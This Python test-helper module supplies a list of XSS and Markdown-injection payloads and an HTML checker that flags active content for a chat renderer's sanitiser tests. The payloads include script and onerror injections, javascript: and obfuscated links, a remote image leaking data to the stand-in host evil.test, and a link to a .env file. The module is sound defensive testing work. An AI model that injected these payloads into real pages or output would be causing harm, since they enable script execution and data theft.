"""Hostile payloads a model or a server could send, and a checker for active content in HTML.

Importable by any test: ``PAYLOADS`` (name → text) and ``active_content(html)``, which lists
what in ``html`` could run, load or navigate: it parses with the standard library's HTML parser,
as a browser would tokenise it, and flags tags, attributes and URLs rather than substrings.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

__all__ = ["PAYLOADS", "THUMBNAIL", "active_content", "assert_inert"]

PAYLOADS: dict[str, str] = {
    # Code spans and fences that a line-by-line sanitiser misreads.
    "unbalanced code span": "`` ` <script>alert(1)</script>",
    "escaped backtick": "\\`<img src=x onerror=alert(1)>`",
    "backticks in a fence info string": "``` `x` ```\n<script>alert(1)</script>\n```",
    "indented fence-like line": "    ```\n<iframe src=javascript:alert(1)></iframe>",
    "tab-indented fence": "\t```\n<script>alert(1)</script>\n\t```\n<img src=x onerror=alert(1)>",
    "fence closed by a shorter fence": "````\n```\n<script>alert(1)</script>",
    "tilde fence then html": "~~~\n~~~\n<svg onload=alert(1)>",
    # Links.
    "javascript link": "[click](javascript:alert(1))",
    "mixed-case javascript link": "[click](JaVaScRiPt:alert(1))",
    "javascript link with spaces": "[click]( javascript:alert(1) )",
    "javascript link in angle brackets": "[click](<javascript:alert(1)>)",
    "entity-encoded javascript": "[x](jav&#x61;script:alert(1)) [y](&#106;avascript:alert(1))",
    "control character in scheme": "[x](java\tscript:alert(1)) [y](java&#09;script:alert(1))",
    "zero-width space before scheme": "[x](\u200bjavascript:alert(1))",
    "reference-style javascript": "[click][a]\n\n[a]: javascript:alert(1)",
    "reference-style with title": '[click][a]\n\n[a]: <javascript:alert(1)> "t"',
    "autolinks": "<javascript:alert(1)> <vbscript:msgbox(1)> <data:text/html,<script>x>",
    "data and vbscript links": "[x](data:text/html;base64,PHNjcmlwdD4=) [y](vbscript:msgbox(1))",
    "relative link": "[secrets](../../files/.env) [up](/api/contents)",
    "link title breakout": '[x](https://ok.test "a\\" onmouseover=\\"alert(1)")',
    # Images: never loaded.
    "remote image": "![chart](https://evil.test/leak?q=secret)",
    "reference image": "![x][img]\n\n[img]: https://evil.test/a.png",
    "data image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "javascript image": "![x](javascript:alert(1))",
    "image alt breakout": '![" onerror="alert(1)](https://evil.test/a.png)',
    # Raw HTML: shown as text.
    "script": "<script>alert(1)</script>",
    "img onerror": "<img src=x onerror=alert(1)>",
    "iframe": '<iframe src="https://evil.test"></iframe>',
    "object": '<object data="https://evil.test/x.swf"></object>',
    "embed": '<embed src="https://evil.test/x.swf">',
    "base": '<base href="https://evil.test/">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.test">',
    "form": '<form action="https://evil.test"><input name=q><button>go</button></form>',
    "style": "<style>body{background:url(https://evil.test/x)}</style>",
    "svg onload": "<svg onload=alert(1)><circle r=1 /></svg>",
    "math href": '<math href="javascript:alert(1)"><mi>x</mi></math>',
    "srcset": '<img srcset="https://evil.test/a.png 1x">',
    "css url": '<div style="background:url(https://evil.test/x)">x</div>',
    "nested tags": "<scr<script>ipt>alert(1)</script> <<img src=x onerror=alert(1)>>",
    "html block": "<div>\n\n<script>alert(1)</script>\n\n</div>",
    "html comment": "<!-- --><script>alert(1)</script>",
    "details breakout": "\n\n</details></summary><script>alert(1)</script>\n\n<details>",
    "pre breakout": "</code></pre><script>alert(1)</script>",
    "attribute breakout": "\"'><img src=x onerror=alert(1)>",
    # Math: TeX that would make links, styles or raw markup.
    "tex href": "$\\href{javascript:alert(1)}{x}$ and $$\\href{https://evil.test}{y}$$",
    "tex style url": "$\\style{background:url(https://evil.test/x)}{x}$",
    "tex class and id": "\\(\\class{jp-x}{y}\\cssId{z}{w}\\)",
    "tex text html": "$$\\text{<script>alert(1)</script>}$$",
    "tex require": "$\\require{action}\\toggle{a}{b}\\endtoggle$",
    "tex unclosed": "$x^$ and $$\\frac{1}{$$ \\[ \\left( \\]",
    # Server fields.
    "markdown in a model name": "**gpt**<img src=x onerror=alert(1)>[x](javascript:alert(1))",
    "tool call id": 'call_1"><img src=x onerror=alert(1)>',
    "tool arguments with backticks": '{"code": "```\\n<script>alert(1)</script>\\n```", "q": "`"}',
    "newlines and a fence in a name": "f\n\n```\n<script>alert(1)</script>",
}

# The shape of nbchat's own image thumbnails, the only images allowed to show.
THUMBNAIL = re.compile(r"data:image/(?:png|jpeg|gif|webp);base64,[A-Za-z0-9+/]+={0,2}")

_ACTIVE_TAGS = frozenset(
    {
        "script", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "meta",
        "link", "form", "input", "button", "textarea", "select", "style", "svg", "template",
        "portal", "video", "audio", "source", "track", "picture", "image", "noscript", "param",
    }
)  # fmt: skip
_URL_ATTRIBUTES = frozenset(
    {
        "href", "src", "srcset", "action", "formaction", "xlink:href", "poster", "background",
        "data", "codebase", "cite", "lowsrc", "dynsrc", "ping", "manifest", "longdesc", "usemap",
    }
)  # fmt: skip
_LINK_SCHEMES = ("http:", "https:", "mailto:")
# What a browser ignores inside a URL's scheme: whitespace and control characters.
_IGNORED_IN_URL = re.compile(r"[\x00-\x20\x7f-\x9f\u200b-\u200f\ufeff]")


class _Checker(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._check(tag, attrs)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._check(tag, attrs)

    def _check(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _ACTIVE_TAGS:
            self.problems.append(f"<{tag}> element")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.problems.append(f"{name} attribute on <{tag}>")
            if name == "style" and re.search(r"url\s*\(|expression\s*\(|@import", value, re.I):
                self.problems.append(f"CSS that loads or runs in <{tag} style>")
            if name in _URL_ATTRIBUTES:
                self._check_url(tag, name, value)

    def _check_url(self, tag: str, name: str, value: str) -> None:
        url = _IGNORED_IN_URL.sub("", value).lower()
        if tag == "img" and name == "src" and THUMBNAIL.fullmatch(value.strip()):
            return
        if tag == "a" and name == "href":
            if not url.startswith(_LINK_SCHEMES):
                self.problems.append(f"<a href={value!r}>: not an http, https or mailto link")
            return
        # Any other URL attribute loads or navigates: src, srcset, href on MathML or SVG…
        self.problems.append(f"<{tag} {name}={value!r}>")


def active_content(html: str) -> list[str]:
    """What in ``html`` could run script, load a resource or navigate; empty if inert."""
    checker = _Checker()
    checker.feed(html)
    checker.close()
    return checker.problems


def assert_inert(html: str, where: str = "") -> None:
    problems = active_content(html)
    assert not problems, f"{where}: active content {problems} in {html[:2000]!r}"
